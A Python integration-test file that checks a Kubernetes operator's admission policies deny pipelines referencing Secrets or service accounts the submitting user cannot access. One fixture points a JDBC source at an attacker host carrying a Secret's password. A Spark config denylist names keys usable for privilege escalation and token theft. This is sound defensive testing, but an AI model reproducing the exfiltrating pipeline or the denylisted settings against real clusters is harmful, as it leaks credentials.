"""No confused deputy at admission: the chart's static ValidatingAdmissionPolicies, rendered by helm
and installed on the real API server, judged for users impersonated with RBAC the test creates."""

from __future__ import annotations

import json
import subprocess
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from dataops.devcluster.controlplane import ControlPlane, bin_dir
from dataops.policy.deputy import spark_conf_problem
from tests.conftest import ROOT
from tests.integration.conftest import wait_for

pytestmark = pytest.mark.cluster

AUTHOR = "alice"


def render(
    *args: str, show_only: str | None = None, namespace: str = "dataops-system"
) -> list[dict[str, Any]]:
    cmd = [
        str(bin_dir() / "helm"),
        "template",
        "dataops",
        str(ROOT / "charts" / "dataops-operator"),
        "--namespace",
        namespace,
        "--kube-version",
        "1.34.4",
        *args,
    ]
    if show_only:
        cmd += ["--show-only", show_only]
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=120, check=True).stdout
    return [d for d in yaml.safe_load_all(out) if d]


@pytest.fixture(scope="module")
def admission_policies(control_plane: ControlPlane) -> Iterator[list[dict[str, Any]]]:
    docs = render(show_only="templates/deputy-admission.yaml")
    assert sorted(d["kind"] for d in docs) == [
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicyBinding",
        "ValidatingAdmissionPolicyBinding",
    ]
    text = "\n---\n".join(json.dumps(d) for d in docs)
    control_plane.kubectl("apply", "--server-side", "-f", "-", input=text)
    # The API server starts enforcing a new policy within seconds: probe with a server-side dry run.
    probe = json.dumps(_pipeline(name="probe", spark={"sparkConf": {"spark.master": "local"}}))

    def enforced() -> bool:
        result = control_plane.kubectl(
            "-n", "default", "apply", "--dry-run=server", "-f", "-", input=probe, check=False
        )
        return result.returncode != 0 and "sparkConf" in result.stderr

    wait_for(enforced, timeout=30, what="admission policy enforced")
    yield docs
    control_plane.kubectl("delete", "-f", "-", "--wait=false", input=text, check=False)


@pytest.fixture
def ns(control_plane: ControlPlane, admission_policies: list[dict[str, Any]]) -> Iterator[str]:
    """A namespace no operator watches, where AUTHOR may write DataPipelines and suites (no Secrets)."""
    name = f"d-{uuid.uuid4().hex[:8]}"
    cp = control_plane
    cp.kubectl("create", "namespace", name)
    cp.kubectl(
        "-n", name, "create", "role", "author", "--verb=get,list,create,update,patch",
        "--resource=datapipelines.dataops.dev,dataqualitysuites.dataops.dev",
    )  # fmt: skip
    cp.kubectl("-n", name, "create", "rolebinding", "author", "--role=author", f"--user={AUTHOR}")
    yield name
    cp.kubectl("delete", "namespace", name, "--wait=false", check=False)


def _pipeline(name: str = "p", **spec: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "sources": [{"name": "orders", "file": {"path": "/data/orders"}}],
        "sinks": [{"name": "out", "from": "orders", "path": "/data/out"}],
    }
    base.update(spec)
    return {
        "apiVersion": "dataops.dev/v1alpha1",
        "kind": "DataPipeline",
        "metadata": {"name": name},
        "spec": base,
    }


def _jdbc_source(secret: str) -> dict[str, Any]:
    return {
        "name": "db",
        "jdbc": {
            "url": "jdbc:postgresql://attacker.example/x",
            "table": "t",
            "credentials": {"passwordSecretRef": {"name": secret, "key": "password"}},
        },
    }


def _connector_source(*secrets: str) -> dict[str, Any]:
    return {
        "name": "cdc",
        "connector": {
            "connectorClass": "io.debezium.connector.postgresql.PostgresConnector",
            "configFromSecrets": [
                {"configKey": f"k{i}", "secretKeyRef": {"name": s, "key": "password"}}
                for i, s in enumerate(secrets)
            ],
        },
    }


def _create(
    cp: ControlPlane, ns: str, doc: dict[str, Any], *, user: str | None = AUTHOR
) -> subprocess.CompletedProcess[str]:
    as_user = [f"--as={user}"] if user else []
    return cp.kubectl("-n", ns, "apply", "-f", "-", *as_user, input=json.dumps(doc), check=False)


def _grant_secret(cp: ControlPlane, ns: str, *names: str) -> None:
    role = f"read-{uuid.uuid4().hex[:6]}"
    cp.kubectl(
        "-n",
        ns,
        "create",
        "role",
        role,
        "--verb=get",
        "--resource=secrets",
        *(f"--resource-name={n}" for n in names),
    )
    cp.kubectl("-n", ns, "create", "rolebinding", role, f"--role={role}", f"--user={AUTHOR}")


def _denied(cp: ControlPlane, ns: str, doc: dict[str, Any]) -> str:
    result = _create(cp, ns, doc)
    assert result.returncode != 0, f"{doc['metadata']['name']} was admitted"
    return result.stderr


def test_secret_the_author_cannot_get_is_denied(control_plane: ControlPlane, ns: str) -> None:
    cp = control_plane
    doc = _pipeline(sources=[_jdbc_source("prod-db")], sinks=[{"name": "out", "from": "db", "path": "/o"}])
    message = _denied(cp, ns, doc)
    assert "prod-db" in message and AUTHOR in message and "may not get" in message
    _grant_secret(cp, ns, "prod-db")
    wait_for(lambda: _create(cp, ns, doc).returncode == 0, timeout=10, what="allowed once alice may get it")


def test_connector_secrets_and_sink_credentials(control_plane: ControlPlane, ns: str) -> None:
    cp = control_plane
    doc = _pipeline(
        sources=[{"name": "orders", "file": {"path": "/d"}}, _connector_source("s-ok", "s-hidden")],
        sinks=[
            {
                "name": "out",
                "from": "orders",
                "format": "jdbc",
                "jdbc": {
                    "url": "jdbc:postgresql://db/x",
                    "table": "t",
                    "credentials": {"userSecretRef": {"name": "sink-user", "key": "u"}},
                },
            }
        ],
    )
    _grant_secret(cp, ns, "s-ok", "sink-user")
    message = _denied(cp, ns, doc)
    assert "s-hidden" in message and "s-ok" not in message
    _grant_secret(cp, ns, "s-hidden")
    wait_for(lambda: _create(cp, ns, doc).returncode == 0, timeout=10, what="allowed")
    denied_sink = json.loads(json.dumps(doc))
    denied_sink["metadata"]["name"] = "p2"
    denied_sink["spec"]["sinks"][0]["jdbc"]["credentials"] = {
        "passwordSecretRef": {"name": "sink-pw", "key": "p"}
    }
    assert "sink-pw" in _denied(cp, ns, denied_sink)


def test_unchanged_spec_is_not_rechecked(control_plane: ControlPlane, ns: str) -> None:
    """Annotations (run-now), labels and finalizers may change after the author lost the Secret; a spec
    edit may not."""
    cp = control_plane
    cp.kubectl(
        "-n", ns, "create", "role", "annotate", "--verb=get,patch", "--resource=datapipelines.dataops.dev"
    )
    cp.kubectl("-n", ns, "create", "rolebinding", "annotate", "--role=annotate", "--user=bob")
    doc = _pipeline(sources=[_jdbc_source("db")], sinks=[{"name": "out", "from": "db", "path": "/o"}])
    assert _create(cp, ns, doc, user=None).returncode == 0  # the admin may get every Secret
    run_now = cp.kubectl("-n", ns, "annotate", "dp", "p", "dataops.dev/run-now=1", "--as=bob", check=False)
    assert run_now.returncode == 0, run_now.stderr
    edit = cp.kubectl(
        "-n",
        ns,
        "patch",
        "dp",
        "p",
        "--type=merge",
        "-p",
        '{"spec":{"suspend":true}}',
        "--as=bob",
        check=False,
    )
    assert edit.returncode != 0 and "db" in edit.stderr and "bob" in edit.stderr


def test_many_secrets_need_namespace_wide_get(control_plane: ControlPlane, ns: str) -> None:
    cp = control_plane
    names = [f"s{i}" for i in range(17)]
    doc = _pipeline(sources=[{"name": "orders", "file": {"path": "/d"}}, _connector_source(*names)])
    _grant_secret(cp, ns, *names)
    message = _denied(cp, ns, doc)
    assert "17 Secrets" in message
    fewer = _pipeline(
        name="p16", sources=[{"name": "orders", "file": {"path": "/d"}}, _connector_source(*names[:16])]
    )
    assert _create(cp, ns, fewer).returncode == 0
    cp.kubectl("-n", ns, "create", "role", "all-secrets", "--verb=get", "--resource=secrets")
    cp.kubectl("-n", ns, "create", "rolebinding", "all-secrets", "--role=all-secrets", f"--user={AUTHOR}")
    wait_for(lambda: _create(cp, ns, doc).returncode == 0, timeout=10, what="allowed with namespace-wide get")


SPARK_KEYS = [
    "spark.kubernetes.authenticate.driver.serviceAccountName",
    "SPARK.KUBERNETES.AUTHENTICATE.DRIVER.SERVICEACCOUNTNAME",
    "spark.kubernetes.executor.podTemplateFile",
    "spark.kubernetes.driver.secrets.db",
    "spark.kubernetes.executor.volumes.hostPath.root.mount.path",
    "spark.kubernetes.container.image",
    "spark.kubernetes.driverEnv.KUBERNETES_AUTH_TOKEN",
    "spark.jars.packages",
    "spark.driver.extraJavaOptions",
    "spark.authenticate.secret",
    "spark.master",
    "spark.sql.x=y",
    "spark.sql.shuffle.partitions",
    "spark.kubernetes.executor.deleteOnTermination",
    "spark.kubernetes.executor.volumes.persistentVolumeClaim.d.options.claimName",
    "spark.masterx",
]


def test_spark_conf_denylist_matches_the_operators(control_plane: ControlPlane, ns: str) -> None:
    """The admission policy and the operator's reconcile-time check give the same verdict on every key,
    for every user (the admin too: these keys are the operator's, not a matter of permission)."""
    cp = control_plane
    for i, key in enumerate(SPARK_KEYS):
        doc = _pipeline(name=f"c{i}", spark={"sparkConf": {key: "x"}})
        result = cp.kubectl(
            "-n", ns, "apply", "--dry-run=server", "-f", "-", input=json.dumps(doc), check=False
        )
        denied_by_operator = spark_conf_problem(key, "x") is not None
        assert (result.returncode != 0) is denied_by_operator, (key, result.stderr)
        if denied_by_operator:
            assert "sparkConf" in result.stderr and key in result.stderr


def test_validator_service_account_needs_token_rights(control_plane: ControlPlane, ns: str) -> None:
    cp = control_plane
    suite = {
        "apiVersion": "dataops.dev/v1alpha1",
        "kind": "DataQualitySuite",
        "metadata": {"name": "s"},
        "spec": {
            "expectations": [{"type": "expect_column_to_exist", "column": "id"}],
            "validator": {"serviceAccountName": "warehouse-admin"},
        },
    }
    message = _denied(cp, ns, suite)
    assert "warehouse-admin" in message and AUTHOR in message
    cp.kubectl(
        "-n", ns, "create", "role", "token", "--verb=create", "--resource=serviceaccounts/token",
        "--resource-name=warehouse-admin",
    )  # fmt: skip
    cp.kubectl("-n", ns, "create", "rolebinding", "token", "--role=token", f"--user={AUTHOR}")
    wait_for(lambda: _create(cp, ns, suite).returncode == 0, timeout=10, what="allowed")
    plain = {**suite, "metadata": {"name": "plain"}, "spec": {**suite["spec"], "validator": {}}}
    assert _create(cp, ns, plain).returncode == 0
